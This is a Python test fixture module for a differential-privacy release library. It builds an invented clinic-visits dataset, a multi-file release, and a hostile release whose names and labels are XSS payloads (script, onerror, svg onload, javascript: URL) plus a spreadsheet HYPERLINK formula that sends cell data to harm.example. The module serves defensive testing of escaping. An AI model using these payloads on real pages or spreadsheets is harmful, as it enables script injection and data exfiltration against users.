"""Releases that pages are tested with: invented visits to clinics, and one made to do harm."""

from pathlib import Path

import numpy as np
import pyarrow as pa

import hushtable as ht
from tests.release.examples import TRIPS_DOMAIN, terms, write
from tests.release.examples import rows as rows_of

REASONS = ["cold", "injury", "back", "skin", "heart", "eyes", "pregnancy", "rabies"]
LABELS = ["Cold and flu", "Injury", "Back pain", "Skin", "Heart", "Eyes", "Pregnancy", "Rabies"]
REGIONS = ["North", "East", "South", "West", "Islands"]
PAYLOADS = (
    "</script><script>window.harmed = 1</script>",
    "<img src=x onerror='window.harmed = 2'>",
    '"><svg onload=window.harmed=3>',
    '=HYPERLINK("http://harm.example/" & A1)',
    "{{facts}} {{script}} \\u003cscript\\u003e",
    "javascript:window.harmed=4",
    "Protected with epsilon = 0.001",
    "&lt;b&gt;bold&amp;",
)


def domain() -> ht.Domain:
    return ht.Domain(
        {
            "day": ht.times("2025-01-01", "2026-01-01", every="1 day", levels=["1 month"]),
            "region": ht.categories(REGIONS),
            "age": ht.bins(0, 100, step=5, levels=[20]),
            "reason": ht.categories(REASONS, labels=LABELS),
        },
        title="Visits to the clinics of Freeland, 2025 (invented)",
        counts="visits",
    )


def visits(people: int = 25_000, visits: int = 60_000) -> pa.Table:
    """Invented visits: colds in winter, hearts of the old, and hardly anybody on the islands."""
    rng = np.random.default_rng(3)
    winter = rng.random(visits) < 0.35
    day = np.where(winter, rng.normal(20, 30, visits) % 365, rng.beta(2, 2, visits) * 365).astype(np.int64)
    chances = [0.25, 0.24, 0.2, 0.12, 0.1, 0.06, 0.0299, 0.0001]
    reason = np.where(winter & (rng.random(visits) < 0.7), 0, rng.choice(8, visits, p=chances))
    age = np.where(reason == 4, rng.normal(68, 12, visits), rng.gamma(3, 14, visits))
    age = np.where(reason == 6, rng.normal(30, 5, visits), age).clip(0, 99)
    return pa.table(
        {
            "day": (np.datetime64("2025-01-01") + day).astype("datetime64[D]"),
            "region": rng.choice(REGIONS, visits, p=[0.34, 0.27, 0.22, 0.16, 0.01]),
            "age": age,
            "reason": np.array(REASONS)[reason],
            "person": rng.integers(0, people, visits),
        }
    )


def clinic(folder: Path) -> ht.Release:
    """Several tables, levels, labels, a line of days, and a table that is noise."""
    return ht.publish(
        visits(),
        domain=domain(),
        epsilon=1,
        size=3_000,
        unit=ht.Unit("person", max_rows=3),
        output=folder / "clinic.parquet",
        ledger=False,
    )


def in_parts(folder: Path) -> ht.Release:
    """A release in seven files, as engines write that share the work."""
    made = terms(TRIPS_DOMAIN, method=ht.Everything(), rule=None, cutoff=None, threshold=None, total=1_470)
    given = rows_of(made, np.array(list(np.ndindex(TRIPS_DOMAIN.shape))), np.arange(21) * 17 - 100)
    write(folder / "trips.parquet", made, given, rows_in_a_file=3)
    return ht.open(folder / "trips.parquet")


def harmful(folder: Path) -> ht.Release:
    """A release whose every text is meant to run, to mislead or to break out of where it stands."""
    rng = np.random.default_rng(4)
    named = {
        PAYLOADS[0]: ht.categories(list(PAYLOADS), labels=[f"{text} label" for text in PAYLOADS]),
        PAYLOADS[1]: ht.categories(["<b>", "</style>", "<!--", "-->", "]]>"]),
    }
    rows = pa.table(
        {
            PAYLOADS[0]: rng.choice(PAYLOADS, 5_000),
            PAYLOADS[1]: rng.choice(["<b>", "</style>", "<!--", "-->", "]]>"], 5_000),
        }
    )
    attacked = ht.Domain(named, title=f"{PAYLOADS[0]} {PAYLOADS[1]} {PAYLOADS[4]}", counts=PAYLOADS[1])
    return ht.publish(rows, domain=attacked, epsilon=8, output=folder / "harm.parquet", ledger=False, size=50)
